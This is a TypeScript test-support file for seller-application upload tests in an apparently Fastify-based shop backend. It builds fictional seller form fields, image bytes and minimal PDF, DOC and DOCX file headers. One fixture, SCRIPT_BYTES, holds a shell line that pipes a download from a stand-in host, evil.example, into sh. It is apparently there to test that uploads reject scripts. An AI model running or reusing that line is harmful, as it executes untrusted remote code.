import { readdirSync } from 'node:fs';
import path from 'node:path';
import type { LightMyRequestResponse } from 'fastify';
import sharp from 'sharp';
import { type AccountsTestApp, bearer, multipart, type Shopper } from '../profile/test-support.ts';
import { sellerDocumentsDir } from './storage.ts';

// Support for the seller application tests: a valid application, real file bytes, and the call.

/** Every text field of a valid application, as the form sends them (bankDetails a JSON string). */
export function validFields(overrides: Record<string, string> = {}): Record<string, string> {
  return {
    ownername: 'Meera Iyer',
    email: 'Meera.Iyer@Example.IN',
    password: 'loom-seller-1',
    number: '9876501234',
    address: '14 Temple Street, Mylapore',
    city: 'Chennai',
    state: 'Tamil Nadu',
    pincode: '600004',
    businessname: 'Little Threads',
    storetype: "Kids' clothing boutique",
    businesslocation: 'Mylapore, Chennai',
    businesslandmark: 'Near Kapaleeshwarar Temple',
    description: 'Hand-block printed cotton frocks for ages 1 to 8.',
    bankDetails: JSON.stringify({
      bankName: 'State Bank of India',
      accountNumber: '30123456789',
      accountHolderName: 'Meera Iyer',
      ifscCode: 'sbin0001234',
    }),
    gstNumber: '33abcde1234f1z5',
    ...overrides,
  };
}

export const bankDetailsWith = (changes: Record<string, string>) =>
  JSON.stringify({
    bankName: 'State Bank of India',
    accountNumber: '30123456789',
    accountHolderName: 'Meera Iyer',
    ifscCode: 'SBIN0001234',
    ...changes,
  });

/** A real image of the given format. */
export function imageBytes(format: 'png' | 'jpeg' | 'webp' = 'png', size = 8): Promise<Buffer> {
  return sharp({ create: { width: size, height: size, channels: 3, background: '#e0529c' } })
    .toFormat(format)
    .toBuffer();
}

export const PDF_BYTES = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n', 'latin1');
export const DOC_BYTES = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(504),
]);
/** The start of a zip whose first entry is word/document.xml, as every .docx has. */
export const DOCX_BYTES = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00]),
  Buffer.alloc(18),
  Buffer.from([0x11, 0x00, 0x00, 0x00]),
  Buffer.from('word/document.xml', 'latin1'),
  Buffer.alloc(64),
]);
export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n', 'latin1');

export interface FilePart {
  bytes: Buffer;
  name: string;
  type?: string;
}

export type SellerFiles = Partial<Record<'storelogo' | 'license' | 'images' | 'passbookImage', FilePart[]>>;

export function formWith(fields: Record<string, string>, files: SellerFiles): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const [name, parts] of Object.entries(files)) {
    for (const part of parts ?? []) {
      form.append(name, new Blob([new Uint8Array(part.bytes)], { type: part.type ?? '' }), part.name);
    }
  }
  return form;
}

/** POST /api/user/profile/register as `who` (null: no token). */
export async function submitApplication(
  t: AccountsTestApp,
  who: Shopper | null,
  fields: Record<string, string>,
  files: SellerFiles,
): Promise<LightMyRequestResponse> {
  const { payload, headers } = await multipart(formWith(fields, files));
  return t.app.inject({
    method: 'POST',
    url: '/api/user/profile/register',
    headers: { ...headers, ...(who ? bearer(who.token) : {}) },
    payload,
  });
}

/** The files stored for an application, by name (empty when the folder is missing). */
export function storedFiles(t: AccountsTestApp, applicationId: string): string[] {
  try {
    return readdirSync(path.join(sellerDocumentsDir(t.config.dataDir), applicationId)).sort();
  } catch {
    return [];
  }
}

/** Every application folder on disk. */
export function applicationFolders(t: AccountsTestApp): string[] {
  try {
    return readdirSync(sellerDocumentsDir(t.config.dataDir));
  } catch {
    return [];
  }
}
